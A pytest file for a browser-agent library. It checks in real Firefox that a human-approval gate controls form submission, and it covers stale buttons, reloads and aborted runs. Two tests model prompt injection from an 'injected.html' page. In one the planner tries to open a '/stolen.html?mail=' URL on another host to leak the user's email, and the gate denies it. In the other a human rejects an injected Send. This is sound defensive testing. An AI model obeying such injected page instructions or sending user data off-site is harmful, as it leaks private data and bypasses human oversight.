"""A gated run on a form in real Firefox: what was approved is what was sent, and what was not approved was not sent.

The server writes down each request, so "nothing was sent" is seen at the far end and not asked of ourselves.
"""

import importlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest
import trio

from foxloop_trio.actions import ApprovalRequest, CheckResult
from foxloop_trio.browser import BrowserSession, Tab, browser_tools
from foxloop_trio.events import Aborted, LoopEvent, Outcome, ToolResult
from foxloop_trio.gate import HostSide, create_gate
from foxloop_trio.loop import CheckInput, Loop
from foxloop_trio.planners import scripted_planner
from foxloop_trio.testing._miniwob import Site, serve_pages
from foxloop_trio.trail import MemoryTrail, Verified, verify_entries

pytestmark = pytest.mark.firefox

ROOT = Path(__file__).parents[2]
PAGES = Path(__file__).parent / "pages"
RUN_SECONDS = 20.0

The = Callable[..., Any]


@pytest.fixture
def site() -> Iterator[Site]:
    with serve_pages(PAGES) as served:
        yield served


@pytest.fixture
def the(monkeypatch: pytest.MonkeyPatch) -> The:
    """`the(messages, role, label)`: the control of the newest page that was shown to the planner."""
    monkeypatch.syspath_prepend(ROOT)
    found: The = importlib.import_module("examples.miniwob._reading").the
    return found


@attrs.define
class Run:
    """One run on 127.0.0.1 with read, fill (never asks) and submit (always asks) granted."""

    tab: Tab
    trail: MemoryTrail = attrs.field(factory=MemoryTrail)
    events: list[LoopEvent] = attrs.field(factory=list)
    asked: list[ApprovalRequest] = attrs.field(factory=list)
    host: HostSide | None = None

    async def loop(self, replies: list[Any], *, approve: Any = None, check: Any = None) -> Loop:
        tools = browser_tools(self.tab)
        gate, self.host = create_gate(tools=tools)
        await self.host.add_grant(scope="read", domains=["127.0.0.1"])
        await self.host.add_grant(scope="fill", domains=["127.0.0.1"], approval="never")
        await self.host.add_grant(scope="submit", domains=["127.0.0.1"])
        return Loop(
            planner=scripted_planner(replies),
            gate=gate,
            tools=tools,
            on_approval=approve or self.yes,
            check=check or _passing,
            trail=self.trail,
        )

    async def complete(self, replies: list[Any], **options: Any) -> Outcome:
        loop = await self.loop(replies, **options)
        with trio.fail_after(RUN_SECONDS):
            outcome = await loop.complete("Sign Ada up", on_event=self.events.append)
        assert isinstance(verify_entries(self.trail.entries(), key=self.trail.key), Verified)
        return outcome

    async def yes(self, request: ApprovalRequest) -> str:
        self.asked.append(request)
        assert self.host is not None
        return await self.host.approve(request.request_id)

    async def no(self, request: ApprovalRequest) -> None:
        self.asked.append(request)
        assert self.host is not None
        await self.host.reject(request.request_id)

    def result_of(self, tool: str) -> ToolResult:
        (result,) = [event for event in self.events if isinstance(event, ToolResult) and event.name == tool]
        return result

    def kinds(self) -> list[str]:
        return [entry.kind for entry in self.trail.entries()]


def _passing(_: CheckInput) -> CheckResult:
    return CheckResult(ok=True)


def call(tool: str, **args: Any) -> dict[str, Any]:
    return {"calls": [{"name": tool, "args": args}]}


def look() -> dict[str, Any]:
    return call("snapshot")


def press(the: The, label: str) -> Callable[[Any], dict[str, Any]]:
    return lambda messages: call("click", control_id=the(messages, "button", label).id)


def finish() -> dict[str, Any]:
    return call("finish", summary="Done.")


async def in_page(firefox: BrowserSession, url: str, expression: str) -> Any:
    """Evaluate in the page's own realm, as the page itself would; over BiDi, not through the product."""
    tree = await firefox.bidi("browsingContext.getTree", maxDepth=0)
    (context,) = [found["context"] for found in tree["contexts"] if found["url"].startswith(url)]
    answer = await firefox.bidi("script.evaluate", expression=expression, target={"context": context}, awaitPromise=True)
    assert answer["type"] == "success", answer
    return answer["result"].get("value")


def sent(site: Site) -> list[str]:
    return [line for line in site.requests if "/thanks.html" in line]


async def test_a_form_is_read_filled_and_sent_with_one_yes(tab: Tab, site: Site, the: The) -> None:
    """browser_tools.md 11.1 and 11.4, with the four tools: one approval, which names button and send; the values arrive."""

    def fill(messages: Any) -> dict[str, Any]:
        name, plan, terms = the(messages, "textbox", "Name"), the(messages, "combobox", "Plan"), the(messages, "checkbox", "Terms")
        wanted = [
            (name, {"op": "type", "value": "Ada Lovelace"}),
            (plan, {"op": "select", "value": "pro"}),
            (terms, {"op": "check"}),
        ]
        return {"calls": [{"name": "act", "args": {"control_id": control.id, **args}} for control, args in wanted]}

    def arrived(_: CheckInput) -> CheckResult:
        return CheckResult(ok=sent(site) == ["GET /thanks.html?name=Ada+Lovelace&plan=pro&terms=yes"])

    await tab.goto(f"{site.address}/signup.html")
    run = Run(tab)
    outcome = await run.complete([look(), fill, press(the, "Send"), finish()], check=arrived)
    assert outcome.status == "done", outcome
    (request,) = run.asked
    assert request.action.args["target"]["label"] == "Send"
    assert request.detail is not None
    assert all(word in request.detail for word in ("Send", "send", site.address))
    assert run.result_of("click").ok
    assert tab.url.startswith(f"{site.address}/thanks.html")
    assert run.kinds()[-1] == "loop.done"


async def test_a_no_sends_nothing(tab: Tab, site: Site, the: The) -> None:
    """loop.md 7.3: `approval-denied`. The server saw the form's page and nothing else."""
    await tab.goto(f"{site.address}/signup.html")
    run = Run(tab)
    outcome = await run.complete([look(), press(the, "Send"), finish()], approve=run.no)
    assert (outcome.status, outcome.reason) == ("blocked", "approval-denied")
    assert site.requests == ["GET /signup.html"]
    assert tab.url == f"{site.address}/signup.html"
    assert run.kinds()[-1] == "loop.blocked"


async def test_a_button_that_changed_while_a_human_decided_is_not_pressed(
    firefox: BrowserSession, tab: Tab, site: Site, the: The
) -> None:
    """browser_tools.md 11.5: the yes was for "Send"; the same element reads "Delete account" by then. Stale, nothing sent."""
    await tab.goto(f"{site.address}/signup.html")
    run = Run(tab)

    async def approve(request: ApprovalRequest) -> str:
        await in_page(firefox, site.address, 'document.getElementById("send").textContent = "Delete account"')
        return await run.yes(request)

    await run.complete([look(), press(the, "Send"), finish()], approve=approve)
    result = run.result_of("click")
    assert (result.ok, result.reason) == (False, "failed")
    assert "stale" in result.summary
    assert site.requests == ["GET /signup.html"]


async def test_a_page_that_was_reloaded_while_a_human_decided_is_not_pressed(tab: Tab, site: Site, the: The) -> None:
    """Ruling 22: a pin dies with its document, though the new one looks the same."""
    await tab.goto(f"{site.address}/signup.html")
    run = Run(tab)

    async def approve(request: ApprovalRequest) -> str:
        await tab.goto(f"{site.address}/signup.html")
        return await run.yes(request)

    await run.complete([look(), press(the, "Send"), finish()], approve=approve)
    assert not run.result_of("click").ok
    assert sent(site) == []


async def test_an_obeyed_injection_to_another_host_is_denied(tab: Tab, site: Site, the: The) -> None:
    """browser_tools.md 11.2: no grant for that host, so no question is asked, the tab stays, the trail ends with the block."""

    def obey(messages: Any) -> dict[str, Any]:
        the(messages, "link", "More recipes")  # the lure is on the page that the planner saw
        return call("open_url", url=site.address.replace("127.0.0.1", "localhost") + "/stolen.html?mail=ada@mail.test")

    await tab.goto(f"{site.address}/injected.html")
    run = Run(tab)
    outcome = await run.complete([look(), obey, finish()])
    assert (outcome.status, outcome.reason) == ("blocked", "gate-deny")
    assert run.asked == []
    assert site.requests == ["GET /injected.html"]
    assert tab.url == f"{site.address}/injected.html"
    assert run.kinds()[-1] == "loop.blocked"


async def test_an_obeyed_injection_to_send_is_stopped_by_the_human(tab: Tab, site: Site, the: The) -> None:
    """browser_tools.md 11.3: the approval names the button, that it sends, and the address; the no ends the run, unsent."""
    await tab.goto(f"{site.address}/injected.html")
    run = Run(tab)
    outcome = await run.complete([look(), press(the, "Send"), finish()], approve=run.no)
    assert (outcome.status, outcome.reason) == ("blocked", "approval-denied")
    (request,) = run.asked
    assert request.detail is not None
    assert all(word in request.detail for word in ("Send", f"{site.address}/injected.html"))
    assert site.requests == ["GET /injected.html"]


@pytest.mark.parametrize("by", ["abort", "cancel"])
async def test_an_act_that_is_under_way_when_the_run_is_stopped_has_its_true_end_on_record(
    firefox: BrowserSession, tab: Tab, the: The, by: str
) -> None:
    """Rulings 1 and 6: the page is busy with the click for a second; the run says that it ended when that is over, not before."""
    trio_token = trio.lowlevel.current_trio_token()
    under_way = trio.Event()

    def requested(line: str) -> None:
        if line == "GET /under-way":
            trio_token.run_sync_soon(under_way.set)

    with serve_pages(PAGES, on_request=requested) as site:
        await tab.goto(f"{site.address}/busy.html")
        run = Run(tab)
        loop = await run.loop([look(), press(the, "Work"), finish()])
        scope = trio.CancelScope()
        with trio.fail_after(RUN_SECONDS):
            async with trio.open_nursery() as nursery:
                with scope:
                    async with loop.run("Work") as running:

                        async def stop() -> None:
                            await under_way.wait()
                            assert "GET /worked" not in site.requests
                            if by == "abort":
                                running.abort()
                            else:
                                scope.cancel()

                        nursery.start_soon(stop)
                        async for event in running:
                            run.events.append(event)
            assert "GET /worked" in site.requests
            assert await in_page(firefox, site.address, 'document.getElementById("state").textContent') == "worked"
    assert running.outcome is not None
    assert running.outcome.status == "aborted"
    assert running.outcome.in_flight is not None
    assert running.outcome.in_flight.effect.state == "done"
    assert isinstance(run.events[-1], Aborted) is (by == "abort")
    assert run.kinds()[-2:] == ["loop.effect", "loop.aborted"]
    (effect,) = [entry.data for entry in run.trail.entries() if entry.kind == "loop.effect"]
    assert (effect["name"], effect["state"]) == ("click", "done")
    assert isinstance(verify_entries(run.trail.entries(), key=run.trail.key), Verified)
